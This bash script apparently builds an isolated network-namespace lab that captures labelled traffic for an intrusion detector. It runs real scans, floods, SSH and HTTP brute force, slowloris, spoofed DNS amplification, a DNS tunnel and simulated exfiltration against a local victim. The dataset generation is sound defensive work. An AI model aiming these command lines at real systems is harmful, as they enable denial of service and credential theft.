#!/usr/bin/env bash
# NetGuardian traffic lab: labeled captures made with real tools on an
# isolated set of Linux network namespaces.
#
#   sudo examples/lab/lab.sh -o ../lab-data/set1 -s 1001 -n 97
#
# Builds one bridge namespace and one namespace per role on 10.N.0.0/24 (no
# default route anywhere, so no packet can leave the lab), starts nginx,
# OpenSSH and dnsmasq on the victim, runs benign clients and attack tools
# from Debian packages against it, captures every scenario with tcpdump on
# the victim's interface and writes ground_truth.tsv in the format of
# ../shared/data/generated/ground_truth.tsv. Everything it starts is
# stopped, and every namespace removed, on exit (also on Ctrl-C).
# See examples/lab/README.md.
set -euo pipefail

usage() {
	cat <<EOF
usage: $0 -o OUTDIR [-s SEED] [-n NET] [-c SCENARIOS] [--install]

  -o OUTDIR     where pcaps, ground_truth.tsv and run.log go (created; keep it
                outside the repository)
  -s SEED       seed of every random choice (rates, tools, addresses); default 1
  -n NET        second octet of the lab subnet 10.NET.0.0/24; default 98
  -c LIST       comma-separated scenarios (default: all):
                $ALL_SCENARIOS
  --install     apt-get install the tools first
EOF
	exit 2
}

ALL_SCENARIOS="normal,port_scan,syn_flood,udp_flood,icmp_flood,brute_force_ssh,brute_force_http,slow_dos,dns_amplification,dns_tunnel,data_exfiltration,mixed"
OUT="" SEED=1 NET=98 SCENARIOS=$ALL_SCENARIOS INSTALL=0
while [[ $# -gt 0 ]]; do
	case $1 in
	-o) OUT=$2; shift 2 ;;
	-s) SEED=$2; shift 2 ;;
	-n) NET=$2; shift 2 ;;
	-c) SCENARIOS=$2; shift 2 ;;
	--install) INSTALL=1; shift ;;
	-h | --help) usage ;;
	*) echo "lab: unknown argument $1" >&2; usage ;;
	esac
done
[[ -n $OUT ]] || usage
[[ $SEED =~ ^[0-9]+$ ]] || { echo "lab: seed must be a number" >&2; exit 2; }
[[ $NET =~ ^[0-9]+$ && $NET -ge 1 && $NET -le 254 ]] || { echo "lab: -n must be 1..254" >&2; exit 2; }
[[ $(id -u) -eq 0 ]] || { echo "lab: needs root (network namespaces, raw sockets)" >&2; exit 1; }

PKGS="nmap hping3 hydra medusa ncrack slowhttptest iodine nginx openssh-server openssh-client dnsmasq tcpdump tshark curl dnsutils tcpreplay ethtool netcat-openbsd iproute2 openssl"
if [[ $INSTALL -eq 1 ]]; then
	DEBIAN_FRONTEND=noninteractive apt-get install -y -q $PKGS
fi
for t in nmap hping3 hydra medusa ncrack slowhttptest iodine iodined nginx /usr/sbin/sshd ssh scp dnsmasq tcpdump tshark curl dig tcprewrite tcpreplay ethtool nc ip openssl timeout; do
	command -v "$t" >/dev/null || { echo "lab: $t not found; run with --install (Debian packages: $PKGS)" >&2; exit 1; }
done

mkdir -p "$OUT"
OUT=$(cd "$OUT" && pwd)
WORK=$(mktemp -d /tmp/nglab.XXXXXX)
trap 'rm -rf "$WORK"' EXIT
LOG="$OUT/run.log"
: >"$LOG"
GT="$OUT/ground_truth.tsv"
printf 'pcap\tsrc_ip\tclass\trole\tstart_epoch\tend_epoch\tstart_utc\tend_utc\tfirst_pkt_epoch\tlast_pkt_epoch\tpkts_from_src\tbytes_from_src\tcommand_or_notes\n' >"$GT"

log() { printf '[%s] %s\n' "$(date +%H:%M:%S)" "$*" | tee -a "$LOG" >&2; }

# ---- addresses ---------------------------------------------------------------
# A tiny LCG whose state lives in a file, so draws made in subshells
# ($(rnd ...)) advance it too and a seed always gives the same parameters.
RNG="$WORK/rng"
echo "$SEED" >"$RNG"
rnd() { # rnd LO HI: a number in [LO, HI]
	local s
	s=$(<"$RNG")
	[[ $s =~ ^[0-9]+$ ]] || { echo "lab: random state $RNG is corrupt ('$s')" >&2; exit 1; }
	s=$(((s * 1103515245 + 12345) % 2147483648))
	echo "$s" >"$RNG"
	echo $(($1 + (s / 65536) % ($2 - $1 + 1)))
}
pick() { local a=("$@"); echo "${a[$(rnd 0 $((${#a[@]} - 1)))]}"; }
coin() { [[ $(rnd 0 1) -eq 1 ]]; }

P="10.$NET.0"
VICTIM="$P.10"
DROP="$P.200"
BEN1="$P.$(rnd 100 109)"
BEN2="$P.$(rnd 110 119)"
REFL="$P.$(rnd 80 89)"
# Each scenario gets its own attacker address, drawn without repetition.
declare -A USED=()
next_attacker() { # sets ATT_IP
	while :; do
		ATT_IP="$P.$(rnd 20 79)"
		[[ -z ${USED[$ATT_IP]:-} ]] && { USED[$ATT_IP]=1; return; }
	done
}
in_lab() { [[ $1 == "$P".* ]] || { echo "lab: refusing target $1 outside $P.0/24" >&2; exit 1; }; }

NS_PREFIX=nglab
ROLES=(victim ben1 ben2 att1 att2 att3 refl)
ns() { echo "$NS_PREFIX-$1"; }
nsx() { local n=$1; shift; ip netns exec "$(ns "$n")" "$@"; }

# ---- cleanup -----------------------------------------------------------------
MADE_RUN_SSHD=0
cleanup() {
	local rc=$?
	trap - EXIT INT TERM
	log "teardown"
	# Stop every process running inside the lab's namespaces (all started here).
	for r in "${ROLES[@]}" br; do
		if ip netns list | grep -qw "$(ns "$r")"; then
			for pid in $(ip netns pids "$(ns "$r")" 2>/dev/null); do kill "$pid" 2>/dev/null || true; done
		fi
	done
	sleep 1
	for r in "${ROLES[@]}" br; do
		if ip netns list | grep -qw "$(ns "$r")"; then
			for pid in $(ip netns pids "$(ns "$r")" 2>/dev/null); do kill -9 "$pid" 2>/dev/null || true; done
			ip netns del "$(ns "$r")" 2>/dev/null || true
		fi
	done
	[[ $MADE_RUN_SSHD -eq 1 ]] && rmdir /run/sshd 2>/dev/null || true
	rm -rf "$WORK"
	exit $rc
}
trap cleanup EXIT
trap 'exit 130' INT TERM

for r in "${ROLES[@]}" br; do
	if ip netns list | grep -qw "$(ns "$r")"; then
		log "removing stale namespace $(ns "$r") from an earlier run"
		for pid in $(ip netns pids "$(ns "$r")"); do kill -9 "$pid" 2>/dev/null || true; done
		ip netns del "$(ns "$r")"
	fi
done

# ---- topology ----------------------------------------------------------------
ip netns add "$(ns br)"
nsx br ip link add br0 type bridge
nsx br ip link set br0 up
nsx br ip link set lo up
i=0
for r in "${ROLES[@]}"; do
	ip netns add "$(ns "$r")"
	ip link add "nglv$i" type veth peer name "nglb$i"
	ip link set "nglv$i" netns "$(ns "$r")"
	ip link set "nglb$i" netns "$(ns br)"
	nsx "$r" ip link set "nglv$i" name eth0
	nsx "$r" ip link set lo up
	nsx "$r" ip link set eth0 up
	# Offloads off: frames on the wire are <= 1514 bytes with real checksums.
	nsx "$r" ethtool -K eth0 tx off rx off tso off gso off gro off >/dev/null 2>&1 || true
	nsx br ip link set "nglb$i" master br0
	nsx br ip link set "nglb$i" up
	nsx br ethtool -K "nglb$i" tx off rx off tso off gso off gro off >/dev/null 2>&1 || true
	i=$((i + 1))
done
nsx victim ip addr add "$VICTIM/24" dev eth0
nsx victim ip addr add "$DROP/24" dev eth0
nsx ben1 ip addr add "$BEN1/24" dev eth0
nsx ben2 ip addr add "$BEN2/24" dev eth0
nsx refl ip addr add "$REFL/24" dev eth0
for r in "${ROLES[@]}"; do
	if nsx "$r" ip route | grep -q default; then
		echo "lab: namespace $(ns "$r") has a default route; refusing to run" >&2
		exit 1
	fi
done

# ---- victim services ---------------------------------------------------------
mkdir -p "$WORK/www/admin" "$WORK/www/files" "$WORK/www/upload" "$WORK/drop" "$WORK/nginx-tmp" "$WORK/ssh"
for p in index about news contact products; do
	head -c "$(rnd 2000 30000)" /dev/urandom | base64 >"$WORK/www/$p.html"
done
cp "$WORK/www/index.html" "$WORK/www/admin/index.html"
for f in 1 2 3; do head -c "$(rnd 100000 600000)" /dev/urandom >"$WORK/www/files/file$f.bin"; done
ADMIN_PASS="S3cret-$(rnd 1000 9999)"
printf 'admin:%s\n' "$(openssl passwd -apr1 "$ADMIN_PASS")" >"$WORK/htpasswd"
cat >"$WORK/nginx.conf" <<EOF
user root;
worker_processes 2;
pid $WORK/nginx.pid;
error_log $WORK/nginx-error.log warn;
events { worker_connections 4096; }
http {
  access_log off;
  client_body_temp_path $WORK/nginx-tmp;
  proxy_temp_path $WORK/nginx-tmp;
  fastcgi_temp_path $WORK/nginx-tmp;
  uwsgi_temp_path $WORK/nginx-tmp;
  scgi_temp_path $WORK/nginx-tmp;
  client_header_timeout 60s;
  client_body_timeout 60s;
  keepalive_timeout 15s;
  server {
    listen 80;
    root $WORK/www;
    location /admin/ { auth_basic "lab"; auth_basic_user_file $WORK/htpasswd; }
    location /upload/ {
      dav_methods PUT;
      create_full_put_path on;
      client_max_body_size 64m;
      alias $WORK/drop/;
    }
  }
}
EOF
nsx victim nginx -c "$WORK/nginx.conf"

if [[ ! -d /run/sshd ]]; then mkdir -p /run/sshd && MADE_RUN_SSHD=1; fi
ssh-keygen -q -t ed25519 -N '' -f "$WORK/ssh/host_key"
ssh-keygen -q -t ed25519 -N '' -f "$WORK/ssh/client_key"
cp "$WORK/ssh/client_key.pub" "$WORK/ssh/authorized_keys"
cat >"$WORK/sshd_config" <<EOF
Port 22
ListenAddress 0.0.0.0
HostKey $WORK/ssh/host_key
PidFile $WORK/sshd.pid
AuthorizedKeysFile $WORK/ssh/authorized_keys
PermitRootLogin prohibit-password
PasswordAuthentication yes
KbdInteractiveAuthentication no
UsePAM no
StrictModes no
MaxStartups 200:30:400
MaxAuthTries 6
MaxSessions 20
LoginGraceTime 20
LogLevel ERROR
Subsystem sftp internal-sftp
EOF
nsx victim /usr/sbin/sshd -f "$WORK/sshd_config" -E "$WORK/sshd.log"
SSH=(ssh -F /dev/null -i "$WORK/ssh/client_key" -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null -o BatchMode=yes -o ConnectTimeout=5 -o LogLevel=ERROR)
SCP=(scp -F /dev/null -i "$WORK/ssh/client_key" -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null -o BatchMode=yes -o ConnectTimeout=5 -o LogLevel=ERROR)

TUN_PASS="lab-tunnel-$SEED"
cat >"$WORK/dnsmasq-victim.conf" <<EOF
no-resolv
no-hosts
no-poll
user=root
listen-address=$VICTIM
bind-interfaces
pid-file=$WORK/dnsmasq-victim.pid
local=/lab/
host-record=www.lab,$VICTIM
host-record=mail.lab,$VICTIM
host-record=files.lab,$VICTIM
host-record=intranet.lab,$DROP
mx-host=lab,mail.lab,10
txt-record=info.lab,"netguardian lab zone"
server=/t.lab/127.0.0.1#5353
cache-size=1000
EOF
nsx victim dnsmasq --conf-file="$WORK/dnsmasq-victim.conf"
nsx victim sh -c "iodined -f -c -P '$TUN_PASS' -l 127.0.0.1 -p 5353 192.168.213.1/27 t.lab >'$WORK/iodined.log' 2>&1 &"

# The reflector: an open resolver answering large TXT records.
{
	echo "no-resolv"; echo "no-hosts"; echo "no-poll"; echo "user=root"
	echo "listen-address=$REFL"; echo "bind-interfaces"; echo "pid-file=$WORK/dnsmasq-refl.pid"
	echo "edns-packet-max=4096"; echo "local=/amp.lab/"
	for k in $(seq 1 14); do printf 'txt-record=big.amp.lab,"%s"\n' "$(head -c 180 /dev/urandom | base64 -w0 | head -c 240)"; done
} >"$WORK/dnsmasq-refl.conf"
nsx refl dnsmasq --conf-file="$WORK/dnsmasq-refl.conf"
sleep 1

log "seed=$SEED net=$P.0/24 victim=$VICTIM drop=$DROP ben1=$BEN1 ben2=$BEN2 reflector=$REFL work=$WORK"

# ---- benign clients ----------------------------------------------------------
# benign_loop NS SEED: web pages, downloads, DNS, key-based SSH, pings, and
# now and then a wrong admin password or a small upload, until killed.
benign_loop() {
	local n=$1
	RNG="$WORK/rng.$n"
	echo "$2" >"$RNG"
	local pages=(index about news contact products) names=(www.lab mail.lab files.lab intranet.lab info.lab nosuch.lab lab)
	while :; do
		case $(rnd 0 11) in
		0 | 1 | 2) nsx "$n" timeout 10 curl -s -o /dev/null "http://$VICTIM/$(pick "${pages[@]}").html" ;;
		3) nsx "$n" timeout 15 curl -s -o /dev/null --limit-rate "$(rnd 200 800)k" "http://$VICTIM/files/file$(rnd 1 3).bin" ;;
		4) for _ in $(seq 1 "$(rnd 1 3)"); do nsx "$n" timeout 5 dig +tries=1 +time=2 "@$VICTIM" "$(pick "${names[@]}")" "$(pick A A MX TXT AAAA)" >/dev/null; done ;;
		5) # a page with many third-party names: a burst of lookups, then the page
			for _ in $(seq 1 "$(rnd 4 12)"); do nsx "$n" timeout 5 dig +tries=1 +time=2 "@$VICTIM" "$(pick cdn img api static ads www)$(rnd 1 40).lab" "$(pick A AAAA)" >/dev/null; done
			nsx "$n" timeout 10 curl -s -o /dev/null "http://$VICTIM/$(pick "${pages[@]}").html" ;;
		6 | 7) nsx "$n" timeout 15 "${SSH[@]}" "root@$VICTIM" "uptime; ls /; head -c $(rnd 500 20000) /dev/zero | base64" >/dev/null ;;
		8) nsx "$n" timeout 10 ping -q -c "$(rnd 2 4)" -i 0.5 "$VICTIM" >/dev/null ;;
		9) nsx "$n" timeout 10 curl -s -o /dev/null -u "admin:$ADMIN_PASS" "http://$VICTIM/admin/" ;;
		10) if [[ $(rnd 0 2) -eq 0 ]]; then
			nsx "$n" timeout 10 curl -s -o /dev/null -u "admin:wrong$(rnd 1 99999)" "http://$VICTIM/admin/"
		else
			head -c "$(rnd 1000 20000)" /dev/urandom >"$WORK/$n.up"
			nsx "$n" timeout 10 curl -s -o /dev/null -T "$WORK/$n.up" "http://$VICTIM/upload/$n-$(rnd 1 99999).txt"
		fi ;;
		11) nsx "$n" timeout 10 curl -s -o /dev/null "http://$DROP/$(pick "${pages[@]}").html" ;;
		esac || true
		sleep "$(rnd 2 25)e-1" # 0.2-2.5 s
	done
}

# ---- capture and ground truth ------------------------------------------------
CAP_PID=""
start_capture() {
	# Started without a wrapping function so that $! is tcpdump itself.
	ip netns exec "$(ns victim)" tcpdump -i eth0 -s 0 -n -U -w "$OUT/$1" 2>>"$WORK/tcpdump.err" &
	CAP_PID=$!
	sleep 1
}
stop_capture() {
	sleep 1
	kill -TERM "$CAP_PID" 2>/dev/null || true
	wait "$CAP_PID" 2>/dev/null || true
	grep -h "dropped by kernel" "$WORK/tcpdump.err" | tail -1 >>"$LOG" || true
	: >"$WORK/tcpdump.err"
}

now() { date +%s.%N | cut -c1-17; }
utc() { date -u -d "@${1%.*}" +%Y-%m-%dT%H:%M:%SZ; }

# gt PCAP "ip|class|role|start|end|notes"...: one row per listed source with
# its first/last packet, packets and bytes in the capture.
gt() {
	local pcap=$1; shift
	tshark -n -r "$OUT/$pcap" -T fields -E occurrence=f -e frame.time_epoch -e ip.src -e frame.len -Y ip 2>/dev/null |
		awk -F'\t' '{ if (!($2 in first)) first[$2] = $1; last[$2] = $1; n[$2]++; b[$2] += $3 }
			END { for (s in n) printf "%s\t%s\t%s\t%d\t%d\n", s, first[s], last[s], n[s], b[s] }' >"$WORK/stats.tsv"
	local row ip class role st en notes
	for row in "$@"; do
		IFS='|' read -r ip class role st en notes <<<"$row"
		local s
		s=$(awk -F'\t' -v ip="$ip" '$1 == ip { print $2 "\t" $3 "\t" $4 "\t" $5 }' "$WORK/stats.tsv")
		[[ -n $s ]] || { log "  $pcap: no packets from $ip ($role)"; continue; }
		printf '%s\t%s\t%s\t%s\t%s\t%s\t%s\t%s\t%s\t%s\n' "$pcap" "$ip" "$class" "$role" "$st" "$en" "$(utc "$st")" "$(utc "$en")" "$s" "$notes" >>"$GT"
	done
	awk -F'\t' '{ printf "  %-16s %7d pkts\n", $1, $4 }' "$WORK/stats.tsv" | sort -k2 -nr | head -6 >>"$LOG"
}

set_attacker() { # set_attacker NS IP
	nsx "$1" ip addr flush dev eth0
	nsx "$1" ip addr add "$2/24" dev eth0
	sleep 0.5
}

BEN_PIDS=()
start_benign() { # start_benign NS...
	local n
	for n in "$@"; do
		local sd
		sd=$(rnd 1 1000000) # drawn here: in `benign_loop ... $(rnd) &` the draw would run in the child
		benign_loop "$n" "$sd" &
		BEN_PIDS+=($!)
	done
}
stop_benign() {
	local p
	for p in "${BEN_PIDS[@]}"; do kill "$p" 2>/dev/null || true; done
	for p in "${BEN_PIDS[@]}"; do wait "$p" 2>/dev/null || true; done
	BEN_PIDS=()
	sleep 1
}

# attack_scenario NAME CLASS FN: one benign client from 4 s before the attack
# until 3 s after it; FN runs the attack from namespace att1 with address $ATT
# and sets CMD to a description of what it ran.
attack_scenario() {
	local name=$1 class=$2 fn=$3
	next_attacker
	ATT=$ATT_IP
	in_lab "$ATT"
	set_attacker att1 "$ATT"
	log "scenario $name ($class) attacker=$ATT"
	start_capture "$name.pcap"
	local s0 a0 a1 s1
	s0=$(now)
	start_benign ben1
	sleep 4
	a0=$(now)
	CMD=""
	"$fn" || log "  $fn exited with status $?"
	a1=$(now)
	sleep 3
	stop_benign
	s1=$(now)
	stop_capture
	local rows=("$ATT|$class|attacker|$a0|$a1|$CMD")
	[[ $class == dns_amplification ]] && rows=("$REFL|$class|reflector|$a0|$a1|$CMD")
	gt "$name.pcap" "${rows[@]}" "$BEN1|normal|benign_client|$s0|$s1|benign_loop: web/dns/ssh/download/ping" \
		"$VICTIM|victim|victim_server|$s0|$s1|responses of the victim (nginx/sshd/dnsmasq/kernel)" \
		"$DROP|victim|victim_server|$s0|$s1|responses of the victim's second address (drop server)"
}

# ---- attacks -----------------------------------------------------------------
# Each is bounded by `timeout` and by an explicit rate.
wordlists() {
	printf '%s\n' root admin test user guest oracle ubuntu pi ftp www deploy backup | head -n "$1" >"$WORK/users.txt"
	{
		printf '%s\n' 123456 password qwerty letmein admin welcome monkey dragon 111111 abc123 iloveyou
		for i in $(seq 1 "$2"); do echo "pass$(((i * 7919 + SEED) % 9000 + 1000))$i"; done
	} | head -n "$2" >"$WORK/pass.txt"
}

a_port_scan() {
	local rate ports t
	rate=$(rnd 250 900)
	t=$(rnd 18 30)
	ports=$((rate * t * 2 / 3))
	local v
	v=$(pick sS sS sT)
	CMD="nmap -$v -Pn -n -p 1-$ports --max-rate $rate"
	nsx att1 timeout "$t" nmap "-$v" -Pn -n -p "1-$ports" --max-rate "$rate" --max-retries 1 "$VICTIM" >/dev/null || true
	if coin; then
		CMD="$CMD; nmap -sV --version-light -p 22,53,80"
		nsx att1 timeout 10 nmap -sV --version-light -Pn -n -p 22,53,80 "$VICTIM" >/dev/null || true
	fi
	if coin; then
		local k
		k=$(rnd 10 30)
		CMD="$CMD; nmap -sU --top-ports $k --max-retries 1"
		nsx att1 timeout 10 nmap -sU -Pn -n --top-ports "$k" --max-retries 1 --max-rate 100 "$VICTIM" >/dev/null || true
	fi
	CMD="$CMD (timeouts ${t}s/10s/10s)"
}

hping_flood() { # hping_flood NAME PPS SECONDS ARGS...
	local pps=$2 secs=$3; shift 3
	local iv=$((1000000 / pps)) c=$((pps * secs))
	CMD="hping3 $* -i u$iv -c $c ($pps pps, $secs s)"
	nsx att1 timeout $((secs + 5)) hping3 -q "$@" -i "u$iv" -c "$c" "$VICTIM" >/dev/null 2>&1 || true
}
a_syn_flood() { hping_flood syn "$(rnd 200 1500)" "$(rnd 15 25)" -S -p "$(pick 22 80 80 443 8080)"; }
a_udp_flood() {
	local port
	port=$(pick "++$(rnd 1024 20000)" "53" "$(rnd 1024 65000)" "++$(rnd 1 1000)")
	hping_flood udp "$(rnd 150 1000)" "$(rnd 15 25)" --udp -p "$port" -d "$(rnd 20 1200)"
}
a_icmp_flood() { hping_flood icmp "$(rnd 150 1000)" "$(rnd 15 25)" --icmp -d "$(rnd 20 1000)"; }

a_brute_force_ssh() {
	local t
	t=$(rnd 25 40)
	wordlists "$(rnd 4 10)" "$(rnd 200 400)"
	case $(rnd 0 2) in
	0) CMD="ncrack -T3 -U users -P passwords ssh://VICTIM:22,CL=$(rnd 1 3) (timeout $t)"
		nsx att1 timeout "$t" ncrack -T3 -U "$WORK/users.txt" -P "$WORK/pass.txt" "ssh://$VICTIM:22,CL=$(rnd 1 3)" >/dev/null 2>&1 || true ;;
	1) local th
		th=$(rnd 2 4)
		CMD="medusa -M ssh -t $th (timeout $t)"
		nsx att1 timeout "$t" medusa -h "$VICTIM" -U "$WORK/users.txt" -P "$WORK/pass.txt" -M ssh -t "$th" >/dev/null 2>&1 || true ;;
	2) local th
		th=$(rnd 2 6)
		CMD="hydra -t $th -I ssh://VICTIM (timeout $t)"
		(cd "$WORK" && nsx att1 timeout "$t" hydra -L "$WORK/users.txt" -P "$WORK/pass.txt" -t "$th" -I "ssh://$VICTIM" >/dev/null 2>&1) || true ;;
	esac
}
a_brute_force_http() {
	local t th
	t=$(rnd 20 35)
	th=$(rnd 1 4)
	wordlists "$(rnd 3 8)" "$(rnd 300 500)"
	if [[ $(rnd 0 2) -gt 0 ]]; then
		CMD="hydra -t $th -I http-get /admin/ (timeout $t)"
		(cd "$WORK" && nsx att1 timeout "$t" hydra -L "$WORK/users.txt" -P "$WORK/pass.txt" -t "$th" -I "$VICTIM" http-get /admin/ >/dev/null 2>&1) || true
	else
		CMD="medusa -M http -m DIR:/admin/ -t $th (timeout $t)"
		nsx att1 timeout "$t" medusa -h "$VICTIM" -U "$WORK/users.txt" -P "$WORK/pass.txt" -M http -m DIR:/admin/ -t "$th" >/dev/null 2>&1 || true
	fi
}

a_slow_dos() {
	local c r i l mode
	c=$(rnd 150 400) r=$(rnd 30 80) i=$(rnd 6 12) l=$(rnd 25 35)
	mode=$(pick -H -H -B)
	CMD="slowhttptest $mode -c $c -r $r -i $i -l $l -u http://VICTIM/"
	if [[ $mode == -B ]]; then
		nsx att1 timeout $((l + 5)) slowhttptest -B -c "$c" -r "$r" -i "$i" -l "$l" -s 8192 -t POST -u "http://$VICTIM/upload/x" >/dev/null 2>&1 || true
	else
		nsx att1 timeout $((l + 5)) slowhttptest -H -c "$c" -r "$r" -i "$i" -l "$l" -u "http://$VICTIM/" >/dev/null 2>&1 || true
	fi
}

a_dns_amplification() {
	# Real dig queries, captured, rewritten to carry the victim's address
	# and replayed to the open resolver, which answers the victim.
	local pps secs loops
	pps=$(rnd 20 60) secs=$(rnd 15 25)
	ip netns exec "$(ns att1)" tcpdump -i eth0 -s 0 -n -U -w "$WORK/amp_q.pcap" "udp and dst port 53 and dst host $REFL" 2>/dev/null &
	local tp=$!
	sleep 1
	for _ in 1 2 3 4 5 6; do nsx att1 dig +tries=1 +time=1 +bufsize=4096 +ignore "@$REFL" TXT big.amp.lab >/dev/null || true; done
	sleep 1
	kill -TERM "$tp"; wait "$tp" 2>/dev/null || true
	tcprewrite --infile="$WORK/amp_q.pcap" --outfile="$WORK/amp_spoofed.pcap" --srcipmap="$ATT/32:$VICTIM/32" --fixcsum
	loops=$((pps * secs / 6 + 1))
	CMD="dig +bufsize=4096 TXT big.amp.lab queries (x6) -> tcprewrite src=$VICTIM -> tcpreplay --pps=$pps --loop=$loops to reflector $REFL (sent from $ATT)"
	nsx att1 timeout $((secs + 5)) tcpreplay -q -i eth0 --pps="$pps" --loop="$loops" "$WORK/amp_spoofed.pcap" >/dev/null 2>&1 || true
}

a_dns_tunnel() {
	local t bytes
	t=$(rnd 30 40) bytes=$(rnd 50000 150000)
	nsx att1 sh -c "iodine -f -r -P '$TUN_PASS' $VICTIM t.lab >'$WORK/iodine.log' 2>&1 &"
	local k
	for k in $(seq 1 15); do nsx att1 ip addr show dns0 2>/dev/null | grep -q 192.168.213 && break; sleep 1; done
	nsx victim sh -c "timeout $t nc -l -p 9000 >/dev/null 2>&1 &"
	sleep 1
	CMD="iodine -r -P *** VICTIM t.lab (via victim dnsmasq -> iodined); nc push of $bytes random bytes + pings over dns0 (timeout $t)"
	local end=$(($(date +%s) + t - 3))
	head -c "$bytes" /dev/urandom | nsx att1 timeout $((t - 8)) nc -q 1 192.168.213.1 9000 >/dev/null 2>&1 || true
	while (($(date +%s) < end)); do nsx att1 timeout 3 ping -q -c 2 192.168.213.1 >/dev/null 2>&1 || true; done
	for pid in $(ip netns pids "$(ns att1)"); do kill "$pid" 2>/dev/null || true; done
	sleep 1
}

a_data_exfiltration() {
	local t rate chunk end
	t=$(rnd 25 38) rate=$(rnd 100 300) chunk=$(rnd 80000 250000)
	end=$(($(date +%s) + t * 2 / 3))
	CMD="curl -T <${chunk}B random chunk> http://DROP/upload/... --limit-rate ${rate}k in a loop"
	local i=0
	while (($(date +%s) < end)); do
		head -c "$chunk" /dev/urandom >"$WORK/chunk.bin"
		nsx att1 timeout 10 curl -s -o /dev/null --limit-rate "${rate}k" -T "$WORK/chunk.bin" "http://$DROP/upload/c$i.bin" || true
		i=$((i + 1))
	done
	local kb
	kb=$(rnd 1000 4000)
	head -c 1500000 /dev/urandom >"$WORK/secret.tar"
	CMD="$CMD, then scp -l $kb of 1.5MB to DROP (until ${t}s)"
	nsx att1 timeout $((t / 3 + 1)) "${SCP[@]}" -l "$kb" "$WORK/secret.tar" "root@$DROP:$WORK/drop/secret.tar" >/dev/null 2>&1 || true
}

# ---- scenarios ---------------------------------------------------------------
s_normal() {
	local secs
	secs=$(rnd 40 56)
	log "scenario normal ($secs s)"
	start_capture normal.pcap
	local s0 s1
	s0=$(now)
	start_benign ben1 ben2
	sleep "$secs"
	stop_benign
	s1=$(now)
	stop_capture
	gt normal.pcap "$BEN1|normal|benign_client|$s0|$s1|benign_loop" "$BEN2|normal|benign_client|$s0|$s1|benign_loop" \
		"$VICTIM|victim|victim_server|$s0|$s1|server responses" "$DROP|victim|victim_server|$s0|$s1|server responses (second address)"
}

s_mixed() {
	# Two benign clients plus a slow port scan, an SSH brute force and
	# slowloris from three attackers, overlapping.
	local a1 a2 a3
	next_attacker; a1=$ATT_IP
	next_attacker; a2=$ATT_IP
	next_attacker; a3=$ATT_IP
	set_attacker att1 "$a1"; set_attacker att2 "$a2"; set_attacker att3 "$a3"
	log "scenario mixed scan=$a1 bf=$a2 slow=$a3"
	wordlists 8 400
	start_capture mixed.pcap
	local s0 s1 t0 t1 u0 u1 v0 v1 rate
	s0=$(now)
	start_benign ben1 ben2
	sleep 4
	rate=$(rnd 100 300)
	t0=$(now)
	(nsx att1 timeout 45 nmap -sS -Pn -n -p 1-65535 --max-rate "$rate" --max-retries 1 "$VICTIM" >/dev/null 2>&1 || true) &
	local p1=$!
	sleep 5
	u0=$(now)
	(nsx att2 timeout 35 medusa -h "$VICTIM" -U "$WORK/users.txt" -P "$WORK/pass.txt" -M ssh -t 2 >/dev/null 2>&1 || true) &
	local p2=$!
	sleep 8
	v0=$(now)
	nsx att3 timeout 35 slowhttptest -H -c 150 -r 30 -i 8 -l 30 -u "http://$VICTIM/" >/dev/null 2>&1 || true
	v1=$(now)
	wait "$p2"; u1=$(now)
	wait "$p1"; t1=$(now)
	sleep 3
	stop_benign
	s1=$(now)
	stop_capture
	gt mixed.pcap "$a1|port_scan|attacker|$t0|$t1|nmap -sS -p 1-65535 --max-rate $rate (timeout 45)" \
		"$a2|brute_force|attacker|$u0|$u1|medusa -M ssh -t 2 (timeout 35)" \
		"$a3|slow_dos|attacker|$v0|$v1|slowhttptest -H -c 150 -r 30 -i 8 -l 30" \
		"$BEN1|normal|benign_client|$s0|$s1|benign_loop" "$BEN2|normal|benign_client|$s0|$s1|benign_loop" \
		"$VICTIM|victim|victim_server|$s0|$s1|server responses" "$DROP|victim|victim_server|$s0|$s1|server responses (second address)"
}

IFS=',' read -r -a LIST <<<"$SCENARIOS"
for sc in "${LIST[@]}"; do
	case $sc in
	normal) s_normal ;;
	mixed) s_mixed ;;
	port_scan | syn_flood | udp_flood | icmp_flood | slow_dos | dns_amplification | dns_tunnel | data_exfiltration)
		attack_scenario "$sc" "$sc" "a_$sc" ;;
	brute_force_ssh | brute_force_http) attack_scenario "$sc" brute_force "a_$sc" ;;
	*) echo "lab: unknown scenario $sc (known: $ALL_SCENARIOS)" >&2; exit 2 ;;
	esac
done

(cd "$OUT" && sha256sum ./*.pcap >SHA256SUMS)
log "done: $GT"
